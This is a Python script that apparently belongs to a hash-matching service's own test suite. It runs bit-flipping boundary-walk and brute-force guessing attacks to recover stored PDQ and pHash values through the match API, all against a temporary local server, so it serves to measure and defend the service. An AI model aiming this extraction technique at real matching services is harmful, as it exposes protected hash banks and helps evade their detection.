#!/usr/bin/env python3
"""Tries to read bank hashes back out through /v1/match with one platform key, and reports what it got.

Attacks (docs/service.md, "What a match tells"):
  walk    From a near copy of a banked picture, find the match boundary and flip each bit across it:
          with yes/no answers alone this rebuilds the stored PDQ in 2 requests of 256 items, whatever
          distances the API tells. Reported: requests, bits right, whether the exact hash came back.
  random  Random 64-bit pHash guesses (with a random PDQ beside them) against a bank of --pictures
          pictures, at the key's full hash rate for --seconds: 64 bits at distance 8 are enumerable.
          Reported: guesses sent, pictures matched.

Each attack runs twice in the same run: with an ordinary key, and with a key of a platform the operator
trusts (`serve --trusted-platform`), which gets the answers every key got before the hardening (exact
distances, no pairing rule, nothing withheld): the side-by-side before/after.

With --companion, each picture also stores a second PDQ after its own (a companion, as `case submit` stores its
rotated, cropped and masked forms, matched only within 21 bits) and the walk targets that companion.

Usage: Scripts/attacks/extract_hash.py path/to/nccmatch [--pictures 10000] [--seconds 30] [--companion]
Runs its own `nccmatch serve` on a temporary data directory on loopback and removes it afterwards.
"""
import argparse
import os
import random
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "measure"))
from service_common import add_platform, call, temporary_server  # noqa: E402


def balanced(rng, bits):
    """Random hex of `bits` bits with exactly half set, as real PDQ and pHash values are."""
    ones = rng.sample(range(bits), bits // 2)
    value = sum(1 << i for i in ones)
    return "%0*x" % (bits // 4, value)


def flip(hex_value, positions):
    value = int(hex_value, 16)
    for p in positions:
        value ^= 1 << p
    return "%0*x" % (len(hex_value), value)


def distance(a, b):
    return bin(int(a, 16) ^ int(b, 16)).count("1")


def matched(answer, i):
    return bool(answer["results"][i]["matches"]) if answer and "results" in answer else False


def walk(base, key, target, rng):
    """The boundary walk from a copy 10 bits away from `target`; returns (requests, answers, rebuilt)."""
    start = flip(target, rng.sample(range(256), 10))
    requests = 0
    # 1. Flip bits one by one until the copy stops matching: the last one that matched is exactly 31 away
    #    (21 for a companion).
    order = rng.sample(range(256), 256)
    steps = [flip(start, order[:k]) for k in range(0, 64)]
    status, answer = call("POST", base + "/v1/match", {"items": [{"id": str(k), "algorithm": "pdq", "value": v} for k, v in enumerate(steps)]}, bearer=key)
    requests += 1
    if status != 200:
        return requests, status, None
    boundary = None
    for k in range(1, len(steps)):
        if matched(answer, k - 1) and not matched(answer, k):
            boundary = steps[k - 1]
            break
    if boundary is None:
        return requests, "no boundary seen", None
    # 2. Flip each bit of the boundary copy: a match means that bit was wrong.
    probes = [flip(boundary, [i]) for i in range(256)]
    status, answer = call("POST", base + "/v1/match", {"items": [{"id": str(i), "algorithm": "pdq", "value": v} for i, v in enumerate(probes)]}, bearer=key)
    requests += 1
    if status != 200:
        return requests, status, None
    wrong = [i for i in range(256) if matched(answer, i)]
    return requests, "answered", flip(boundary, wrong)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("binary")
    parser.add_argument("--pictures", type=int, default=10_000)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--serve-arg", action="append", default=[], help="extra `serve` options (repeatable)")
    parser.add_argument("--companion", action="store_true", help="store a companion PDQ per picture and walk towards it")
    args = parser.parse_args()
    rng = random.Random(args.seed)
    extra = ["--secret-rounds", "1000", "--case-burst", "100000", "--cases-per-hour", "1e9",
             "--trusted-platform", "trusted-partner", "--trusted-platform", "trusted-partner-random", *args.serve_arg]
    with temporary_server(args.binary, extra, prefix="nccmatch-attack-") as (_, base, data):
        pictures = []
        for start in range(0, args.pictures, 1000):
            hashes = []
            for image in range(start, min(start + 1000, args.pictures)):
                pdq, phash = balanced(rng, 256), balanced(rng, 64)
                companion = balanced(rng, 256)
                pictures.append((companion if args.companion else pdq, phash))
                hashes += [{"algorithm": "pdq", "value": pdq, "quality": 90, "image": image},
                           {"algorithm": "phash", "value": phash, "image": image}]
                if args.companion:
                    hashes.append({"algorithm": "pdq", "value": companion, "quality": 90, "image": image})
            status, _ = call("POST", base + "/v1/cases", {"hashes": hashes})
            assert status == 201, status
        print(f"bank: {len(pictures)} pictures (PDQ + pHash each" + (", and a companion PDQ: the walks target it)" if args.companion else ")"))

        for label, name in (("trusted key (as before)", "trusted-partner"), ("ordinary key", "curious-partner")):
            key = add_platform(args.binary, data, name)
            target = pictures[1 if name == "trusted-partner" else 0][0]
            t0 = time.time()
            requests, outcome, rebuilt = walk(base, key, target, rng)
            seconds = time.time() - t0
            if rebuilt is None:
                print(f"[{label}] walk: {requests} requests, {seconds:.2f} s: nothing rebuilt ({outcome})")
            else:
                d = distance(rebuilt, target)
                print(f"[{label}] walk: {requests} requests, {seconds:.2f} s: rebuilt hash {256 - d}/256 bits right"
                      + (" -> EXACT stored PDQ recovered" if d == 0 else " -> not recovered"))
            status, answer = call("POST", base + "/v1/match", {"items": [{"id": "x", "algorithm": "pdq", "value": target}]}, bearer=key)
            print(f"[{label}] after the walk an exact copy is answered {status}" + (f" ({answer['error']['code']})" if status != 200 else ""))

            key2 = add_platform(args.binary, data, name + "-random")
            guesses = hits = requests = refused = 0
            deadline = time.time() + args.seconds
            while time.time() < deadline:
                items = []
                for i in range(0, 10_000, 2):
                    items.append({"id": str(i), "algorithm": "phash", "value": "%016x" % rng.getrandbits(64)})
                    items.append({"id": str(i), "algorithm": "pdq", "value": balanced(rng, 256)})
                status, answer = call("POST", base + "/v1/match", {"items": items}, bearer=key2)
                requests += 1
                if status == 429:
                    refused += 1
                    time.sleep(0.2)
                    continue
                guesses += 5_000
                hits += sum(1 for r in answer["results"] if r["matches"])
            print(f"[{label}] random: {guesses} pHash guesses in {requests} requests ({refused} rate-limited) over {args.seconds:.0f} s: {hits} bank pictures matched")


if __name__ == "__main__":
    main()
